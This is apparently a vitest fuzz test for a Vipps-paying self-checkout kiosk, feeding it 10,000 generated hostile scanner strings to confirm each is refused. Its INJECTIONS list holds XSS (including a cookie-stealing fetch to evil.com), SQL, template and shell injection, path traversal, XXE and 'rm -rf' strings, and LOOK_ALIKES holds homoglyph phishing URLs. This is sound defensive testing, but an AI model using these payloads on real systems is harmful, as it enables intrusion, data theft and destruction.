import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ScanFeedback, ScreenName } from '../../contracts/screen-model.js';
import { CheckoutHarness, DEMO_CATALOG } from '../support/checkout-harness.js';
import { Dice, seededRandom, suiteSeed } from '../support/prng.js';
import { VippsTraffic } from './support/vipps-traffic.js';

// 10,000 strings a scanner (or someone holding something in front of it) could produce, fed to the
// real checkout machine on every screen that takes scans. None of them is a customer's personal QR, so
// none may reach Vipps; every one must get feedback; the machine must keep running. Then the valid
// personal QR forms, to prove the door still opens for the real thing.

const SEED = suiteSeed(7_000_077);
const TOTAL = 10_000;

const catalog: Array<{ gtin: string }> = JSON.parse(readFileSync(DEMO_CATALOG, 'utf8')).products;
const CATALOG = new Set(catalog.map((p) => p.gtin));
const MILK = '2000000000015';
const BREAD = '2000000000022';

type Kind = ScanFeedback['kind'];
const ANY_REFUSAL: readonly Kind[] = ['not-recognised', 'scanner-layout', 'unknown-item'];

/**
 * What the kiosk takes as a customer's personal QR (API.md §2.1: the content may change without warning,
 * only codes on qr.vipps.no scan in the app): an https URL on exactly that host, of URL characters only,
 * at most the 255 characters ePayment takes. Written out here on its own so the generator can prove it
 * never produced one by accident: such a string is not hostile, Vipps judges it. Scanners' surrounding
 * whitespace is what `trim` removes.
 */
const PERSONAL_QR = /^https:\/\/qr\.vipps\.no\/(?:[\w\-.~:/?#[\]@!$&'()*+,;=]|%[\dA-Fa-f]{2})+$/;
const isPersonalQr = (text: string) =>
  text.length <= 512 && text.trim().length <= 255 && PERSONAL_QR.test(text.trim());

function checkDigit(body: string): number {
  let sum = 0;
  for (let i = 0; i < body.length; i++) {
    const digit = Number(body[body.length - 1 - i]);
    sum += i % 2 === 0 ? digit * 3 : digit;
  }
  return (10 - (sum % 10)) % 10;
}

interface Category {
  name: string;
  weight: number;
  /** The feedback a scan of this category may get. */
  expect: readonly Kind[];
  make: (dice: Dice, qr: QrSamples) => string;
}

interface QrSamples {
  v1: readonly string[];
  v2: readonly string[];
  tokens: readonly string[];
}

const printable = (dice: Dice, length: number) =>
  Array.from({ length }, () => String.fromCharCode(dice.int(0x20, 0x7e))).join('');

const digits = (dice: Dice, length: number) => Array.from({ length }, () => String(dice.int(0, 9))).join('');

const UNICODE_POOLS: ReadonlyArray<readonly [number, number]> = [
  [0x00, 0x1f], // C0 controls, NUL included
  [0x7f, 0x9f], // DEL and C1
  [0x200b, 0x200f], // zero-width and direction marks
  [0x202a, 0x202e], // bidi embeddings and the right-to-left override
  [0x2066, 0x2069], // bidi isolates
  [0xfeff, 0xfeff], // BOM
  [0xfff9, 0xfffb], // interlinear annotations
  [0x0300, 0x036f], // combining marks
  [0x0590, 0x05ff], // Hebrew
  [0x0600, 0x06ff], // Arabic
  [0x4e00, 0x4e40], // CJK
  [0xff01, 0xff5e], // fullwidth ASCII
  [0xd800, 0xdfff], // lone surrogates
  [0xfffe, 0xffff], // non-characters
  [0xe000, 0xe0ff], // private use
];

function unicodeChar(dice: Dice): string {
  if (dice.chance(0.1)) return String.fromCodePoint(dice.int(0x1f300, 0x1f6ff)); // emoji, a surrogate pair
  const [from, to] = dice.pick(UNICODE_POOLS);
  return String.fromCharCode(dice.int(from, to));
}

function insertAt(text: string, at: number, piece: string): string {
  return text.slice(0, at) + piece + text.slice(at);
}

const INJECTIONS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  '<svg/onload=fetch("//evil.com/"+document.cookie)>',
  "'; DROP TABLE payments; --",
  "' OR '1'='1",
  '1; SELECT * FROM users WHERE 1=1',
  "{{constructor.constructor('return process')().exit()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text a template injection sends
  '${process.exit(1)}',
  '#{7*7}',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  '{"__proto__":{"isAdmin":true}}',
  '{"type":"pay-phone","msisdn":"4791234567"}',
  '{"type":"done"}',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%0d%0aSet-Cookie:%20x=1',
  'X-Injected: 1\r\nHost: evil.com',
  '$(reboot)',
  '`reboot`',
  '| rm -rf / #',
  '<!--#exec cmd="ls"-->',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ']]>',
  '%s%s%s%s%n',
  '{0}{1}',
  'NaN',
  'Infinity',
  '-1',
  '1e308',
  '0x1F',
  'null',
  'undefined',
  '[object Object]',
  'https://qr.vipps.no/p/<script>alert(1)</script>',
  "https://qr.vipps.no/p/x' OR 1=1 --",
  'https://qr.vipps.no/p/x"><script>alert(1)</script>',
  'https://qr.vipps.no/28/2/01/031/4791234567?v=1;DROP TABLE payments',
  'https://qr.vipps.no/p/%3Cscript%3E',
  'https://qr.vipps.no/p/x\u0000',
  'https://qr.vipps.no/p/$(reboot)',
  'https://qr.vipps.no/p/{{7*7}}',
];

const LOOK_ALIKES = [
  'https://qr.vipps.no.evil.com/p/{t}',
  'https://qr-vipps.no/p/{t}',
  'http://qr.vipps.no/p/{t}',
  'https://qr.vipps.no@evil.com/p/{t}',
  'https://evil.com@qr.vipps.no/p/{t}',
  'https://evil.com/qr.vipps.no/p/{t}',
  'https://evil.com/?u=https://qr.vipps.no/p/{t}',
  'https://xn--qr-vpps-9ya.no/p/{t}',
  'https://qr.xn--vpps-cta.no/p/{t}',
  'https://qr.v\u0456pps.no/p/{t}', // Cyrillic і
  'https://qr.vipp\u0455.no/p/{t}', // Cyrillic ѕ
  'https://qr.vipps.n\u043e/p/{t}', // Cyrillic о
  'https://qr.v\u0131pps.no/p/{t}', // dotless ı
  'https://\u051br.vipps.no/p/{t}', // Cyrillic ԛ
  'https://qr.vi\u0440ps.no/p/{t}', // Cyrillic р
  'https://qr\u3002vipps\u3002no/p/{t}', // ideographic full stops
  'https://qr.vipps.no./p/{t}',
  'https://qr.vipps.no:443/p/{t}',
  'https://qr.vipps.no:8443/p/{t}',
  'https://QR.VIPPS.NO/p/{t}',
  'https://qr.vipps.com/p/{t}',
  'https://qr.vipps.no.com/p/{t}',
  'https://vipps.no/p/{t}',
  'https://www.qr.vipps.no/p/{t}',
  'https://qr.vipps.no//p/{t}',
  'https://qr.vipps.no/P/{t}',
  'https://qr.vipps.no/p//{t}',
  'https://qr.vipps.no/p/{t}/',
  'https://qr.vipps.no/p/{t}?utm_source=evil',
  'https://qr.vipps.no/p/{t}#evil',
  'https://qr.vipps.no/p/{t}/../../evil',
  'https://qr.vipps.no\\p\\{t}',
  'https:\\\\qr.vipps.no\\p\\{t}',
  '//qr.vipps.no/p/{t}',
  'qr.vipps.no/p/{t}',
  'https://qr.vipps.no%2F@evil.com/p/{t}',
  'https://qr%2evipps.no/p/{t}',
  'https://qr.vipps.no/p/%2e%2e%2fevil',
  'ftp://qr.vipps.no/p/{t}',
  'wss://qr.vipps.no/p/{t}',
  'https://qr.vipps.no/p/ {t}',
  'https://qr.vipps.no/p/{t} {t}',
  '\uff48\uff54\uff54\uff50\uff53://qr.vipps.no/p/{t}', // fullwidth "https"
  'https://qr.vipps.no/28/2/01/031/{m}?v=2',
  'https://qr.vipps.no/28/2/01/031/{m}?v=1&next=https://evil.com',
  'https://qr.vipps.no/28/2/01/031/+{m}?v=1',
  'https://qr.vipps.no/28/2/01/031/{m}',
  'https://qr.vipps.no/28/2/01/032/{m}?v=1',
  'https://qr.vipps.no/28/2/01/031/47912?v=1',
  'https://qr.vipps.no/28/2/01/031/4791234567890123?v=1',
  'https://qr.vipps.no.evil.com/28/2/01/031/{m}?v=1',
  'https://qr.vipps.no/28/2/01/031/{m}?V=1',
];

/** A keyboard-wedge scanner typing through a Norwegian layout, or with Caps Lock on. */
function retyped(dice: Dice, qr: string): string {
  if (dice.chance(0.4)) return qr.toUpperCase();
  const map: Record<string, string> = { '/': '-', ':': '\u00d8', '?': '_', '=': ')' };
  return [...qr].map((c) => map[c] ?? c).join('');
}

const CATEGORIES: readonly Category[] = [
  {
    name: 'random-bytes',
    weight: 14,
    expect: ANY_REFUSAL,
    make: (dice) => {
      const bytes = Array.from({ length: dice.int(1, 96) }, () => dice.int(0, 255));
      return dice.chance(0.5) ? String.fromCharCode(...bytes) : Buffer.from(bytes).toString('utf8');
    },
  },
  {
    name: 'long-no-terminator',
    weight: 3,
    expect: ['not-recognised'],
    make: (dice, qr) => {
      const length = dice.pick([513, 1024, 4096, 4096, 4096, 65_536]);
      const kind = dice.int(0, 3);
      if (kind === 0) return printable(dice, length);
      if (kind === 1) return digits(dice, length);
      if (kind === 2) return (dice.pick(qr.v2) + printable(dice, length)).slice(0, length);
      return dice
        .pick(qr.v2)
        .repeat(Math.ceil(length / 40))
        .slice(0, length);
    },
  },
  {
    name: 'unicode-control',
    weight: 15,
    expect: ['not-recognised', 'scanner-layout'],
    make: (dice, qr) => {
      const junk = Array.from({ length: dice.int(1, 6) }, () => unicodeChar(dice)).join('');
      switch (dice.int(0, 3)) {
        case 0:
          return junk + printable(dice, dice.int(0, 20));
        case 1: {
          // Inside a real code (never only at its ends, where whitespace would be trimmed off it).
          const code = dice.pick([...qr.v1, ...qr.v2]);
          return insertAt(code, dice.int(1, code.length - 1), junk);
        }
        case 2:
          // STX ... ETX framing, as some scanners are set up to send.
          return `\u0002${dice.pick([...qr.v1, ...qr.v2])}\u0003`;
        default:
          return `${dice.pick(qr.v2)}${junk}x`;
      }
    },
  },
  {
    name: 'injection',
    weight: 12,
    expect: ['not-recognised', 'scanner-layout'],
    make: (dice) => {
      const base = dice.pick(INJECTIONS);
      switch (dice.int(0, 3)) {
        case 0:
          return base;
        case 1:
          return `${base}\r\n`;
        case 2:
          return `${printable(dice, dice.int(1, 8))}${base}`;
        default:
          return base.repeat(dice.int(2, 5));
      }
    },
  },
  {
    name: 'look-alike',
    weight: 15,
    expect: ['not-recognised', 'scanner-layout'],
    make: (dice, qr) =>
      dice
        .pick(LOOK_ALIKES)
        .replaceAll('{t}', dice.pick(qr.tokens))
        .replaceAll('{m}', dice.pick(['4791234567', '4798765432', '4741234500'])) +
      (dice.chance(0.3) ? '\r\n' : ''),
  },
  {
    name: 'truncated-qr',
    weight: 12,
    expect: ['not-recognised', 'scanner-layout'],
    make: (dice, qr) => {
      if (dice.chance(0.5)) {
        // A v1 code cut anywhere, or a v2 code cut before its token starts.
        const v1 = dice.pick(qr.v1);
        if (dice.chance(0.5)) return v1.slice(0, dice.int(1, v1.length - 1));
        return dice.pick(qr.v2).slice(0, dice.int(1, 'https://qr.vipps.no/p/'.length));
      }
      // A character dropped from the fixed part.
      const code = dice.pick([...qr.v1, ...qr.v2]);
      const at = dice.int(0, 'https://qr.vipps.no/p/'.length - 1);
      return code.slice(0, at) + code.slice(at + 1);
    },
  },
  {
    name: 'bad-check-digit',
    weight: 10,
    expect: ['not-recognised'],
    make: (dice) => {
      const body = dice.chance(0.5)
        ? dice.pick(catalog).gtin.slice(0, -1)
        : digits(dice, dice.pick([7, 11, 12]));
      const wrong = (checkDigit(body) + dice.int(1, 9)) % 10;
      return `${body}${wrong}${dice.chance(0.3) ? '\r\n' : ''}`;
    },
  },
  {
    name: 'unknown-ean',
    weight: 10,
    expect: ['unknown-item'],
    make: (dice) => {
      for (;;) {
        const body = digits(dice, dice.pick([7, 11, 12]));
        const code = `${body}${checkDigit(body)}`;
        const normalised = code.length === 12 ? `0${code}` : code;
        if (!CATALOG.has(normalised)) return code;
      }
    },
  },
  {
    name: 'keyboard-layout',
    weight: 6,
    expect: ['scanner-layout'],
    make: (dice, qr) => retyped(dice, dice.pick([...qr.v1, ...qr.v2])),
  },
  {
    name: 'empty-or-whitespace',
    weight: 3,
    expect: ['not-recognised'],
    make: (dice) => dice.pick(['', ' ', '\r\n', '\r', '\n\n', '\t', '\u00a0', '\u3000', ' \t\r\n ']),
  },
];

describe('hostile scans', () => {
  const traffic = new VippsTraffic();
  let kiosk: CheckoutHarness;

  beforeAll(async () => {
    traffic.start();
    kiosk = await new CheckoutHarness().start();
  });
  afterAll(async () => {
    traffic.stop();
    await kiosk?.stop();
  });

  it(`refuses ${TOTAL} hostile scanner strings on every scanning screen without a word to Vipps`, async () => {
    const dice = new Dice(seededRandom(SEED));
    const customers = kiosk.sandbox.customers;
    const qr: QrSamples = {
      v1: customers.map((c) => c.personalQrV1),
      v2: customers.map((c) => c.personalQrV2),
      tokens: [...customers.map((c) => c.personalQrV2.split('/p/')[1]!), 'x', 'abc', 'A1'],
    };

    // Generate first, so generation does not count in the timing.
    const scans: Array<{ category: Category; text: string }> = [];
    const weights = Object.fromEntries(CATEGORIES.map((c) => [c.name, c.weight]));
    let setAside = 0;
    while (scans.length < TOTAL) {
      const name = dice.weighted(weights);
      const category = CATEGORIES.find((c) => c.name === name)!;
      const text = category.make(dice, qr);
      // A whole personal QR is not hostile (a digit dropped from a v1 number still leaves one): set aside.
      if (isPersonalQr(text)) {
        setAside++;
        continue;
      }
      scans.push({ category, text });
    }

    // Four screens take scans; a quarter of the strings on each. `declined` is reached through one
    // real create that Vipps refuses (an unknown phone number): that is the only call allowed.
    const screens: Array<{ screen: ScreenName; enter: () => Promise<void> }> = [
      { screen: 'attract', enter: async () => {} },
      {
        screen: 'basket',
        enter: async () => {
          kiosk.scan(MILK);
          kiosk.scan(BREAD);
        },
      },
      { screen: 'identify', enter: async () => kiosk.send({ type: 'pay' }) },
      {
        screen: 'declined',
        enter: async () => {
          kiosk.send({ type: 'pay-phone', msisdn: '4799999999' });
          await kiosk.until('declined');
        },
      },
    ];

    const failures: string[] = [];
    const kinds: Record<string, number> = {};
    const perCategory: Record<string, number> = {};
    let fedBack = 0;
    let scanned = 0;
    let scanMs = 0;
    const quarter = Math.ceil(TOTAL / screens.length);
    for (const [index, { screen, enter }] of screens.entries()) {
      await enter();
      expect(kiosk.model.screen).toBe(screen);
      const callsBefore = [...kiosk.calls];
      const requestsBefore = traffic.requests();
      const actorsBefore = Object.keys(kiosk.service.snapshot().children);
      const started = performance.now();
      for (const { category, text } of scans.slice(index * quarter, (index + 1) * quarter)) {
        const before = kiosk.model;
        const seq = before.feedback?.seq ?? 0;
        kiosk.scan(text);
        scanned++;
        perCategory[category.name] = (perCategory[category.name] ?? 0) + 1;
        const snapshot = kiosk.service.snapshot();
        const after = kiosk.model;
        const kind = after.feedback?.kind;
        if (kind) kinds[kind] = (kinds[kind] ?? 0) + 1;
        const problem =
          snapshot.status !== 'active'
            ? `machine ${snapshot.status}`
            : after.feedback?.seq !== seq + 1
              ? `feedback seq ${seq} -> ${after.feedback?.seq}`
              : !kind || !category.expect.includes(kind)
                ? `feedback ${kind}, expected one of ${category.expect.join('/')}`
                : after.screen !== before.screen && !(kind === 'added' && after.screen === 'basket')
                  ? `screen ${before.screen} -> ${after.screen}`
                  : kiosk.calls.length !== callsBefore.length
                    ? `sent to Vipps: ${kiosk.calls.slice(callsBefore.length).join(', ')}`
                    : undefined;
        if (problem === undefined) fedBack++;
        else if (failures.length < 20)
          failures.push(`${category.name} on ${screen}: ${JSON.stringify(text.slice(0, 120))}: ${problem}`);
        if (snapshot.status !== 'active') break;
      }
      scanMs += performance.now() - started;
      // Whatever a scan sets off (a payment, a club lookup, a QR exchange) is an actor the machine invokes
      // as it takes the scan; the loop never yields, so any such actor would still be running here.
      expect(
        Object.keys(kiosk.service.snapshot().children),
        `actors after the hostile scans on ${screen}`,
      ).toEqual(actorsBefore);
      expect(kiosk.calls, `calls after the hostile scans on ${screen}`).toEqual(callsBefore);
      expect(traffic.requests(), `Vipps requests during the hostile scans on ${screen}`).toBe(requestsBefore);
    }

    console.log(
      `hostile scans (seed ${SEED}): ${scanned} strings (${fmt(perCategory)}) on attract/basket/identify/declined ` +
        `(${setAside} generated whole personal QR codes set aside), ` +
        `${kiosk.calls.length - 1} sent to Vipps, ${fedBack}/${scanned} got the right feedback ` +
        `(${fmt(kinds)}), machine ${kiosk.status}, ${failures.length} failures, ${(scanMs / 1000).toFixed(2)} s scanning ` +
        `(${((1000 * scanMs) / scanned).toFixed(0)} µs a scan)`,
    );
    expect(failures).toEqual([]);
    expect(fedBack).toBe(TOTAL);
    expect(kiosk.status).toBe('active');
    // Only the create that was refused on purpose to reach `declined`.
    expect(kiosk.calls.filter((c) => c.startsWith('create'))).toHaveLength(1);
  }, 60_000);

  it('still pays for every valid personal QR form, sending exactly the scanned code', async () => {
    const customer = kiosk.sandbox.customers[1]!;
    kiosk.send({ type: 'start-over' });
    const started = performance.now();
    const callsBefore = kiosk.calls.length;

    // On an empty basket a personal QR is only acknowledged.
    kiosk.scan(customer.personalQrV2);
    expect(kiosk.model).toMatchObject({ screen: 'attract', feedback: { kind: 'ignored' } });
    expect(kiosk.calls.length).toBe(callsBefore);

    const pay = async (scan: string, viaIdentify: boolean) => {
      kiosk.scan(MILK);
      if (viaIdentify) kiosk.send({ type: 'pay' });
      kiosk.scan(scan);
      const model = await kiosk.until('awaiting-approval');
      const reference = model.payment!.reference;
      kiosk.send({ type: 'cancel' });
      await kiosk.until('basket');
      kiosk.send({ type: 'start-over' });
      return (await kiosk.control.payment(reference)).request.customer;
    };
    const forms: Array<[string, string, boolean]> = [
      ['v2', customer.personalQrV2, false],
      ['v1 with CR LF', `${customer.personalQrV1}\r\n`, false],
      ['v2 with a tab and spaces', `\t ${customer.personalQrV2}  `, true],
      ['v1 on identify', customer.personalQrV1, true],
    ];
    const sent: string[] = [];
    for (const [name, scan, viaIdentify] of forms) {
      expect(await pay(scan, viaIdentify), name).toEqual({ personalQr: scan.trim() });
      sent.push(name);
    }

    // A v2 code cut inside its token looks like a whole one (tokens are opaque, of no fixed length):
    // it goes to Vipps, which refuses it, and the customer is told so; the kiosk keeps running.
    kiosk.scan(MILK);
    kiosk.scan(customer.personalQrV2.slice(0, -5));
    const declined = await kiosk.until('declined');
    expect(declined.declined).toEqual({ reason: 'invalid-customer' });
    expect(kiosk.status).toBe('active');
    kiosk.send({ type: 'start-over' });

    // A form the kiosk has never seen, on Vipps' QR host: sent whole, and Vipps' 4060 decides.
    const unseen = 'https://qr.vipps.no/z/9/Ab-c_d.e~f?v=7';
    const createsBefore = kiosk.calls.filter((c) => c.startsWith('create')).length;
    kiosk.scan(MILK);
    kiosk.scan(unseen);
    expect((await kiosk.until('declined')).declined).toEqual({ reason: 'invalid-customer' });
    expect(kiosk.calls.filter((c) => c.startsWith('create'))).toHaveLength(createsBefore + 1);
    kiosk.send({ type: 'start-over' });

    console.log(
      `hostile scans, positives: ${sent.length}/${forms.length} valid personal QR forms paid with the exact code ` +
        `(${sent.join('; ')}), empty-basket QR ignored, token-truncated v2 and an unseen qr.vipps.no form sent whole and declined as invalid-customer, ` +
        `${((performance.now() - started) / 1000).toFixed(2)} s`,
    );
  });
});

function fmt(counts: Record<string, number>): string {
  return Object.entries(counts)
    .sort(([a], [b]) => a.localeCompare(b))
    .map(([k, v]) => `${k} ${v}`)
    .join(', ');
}
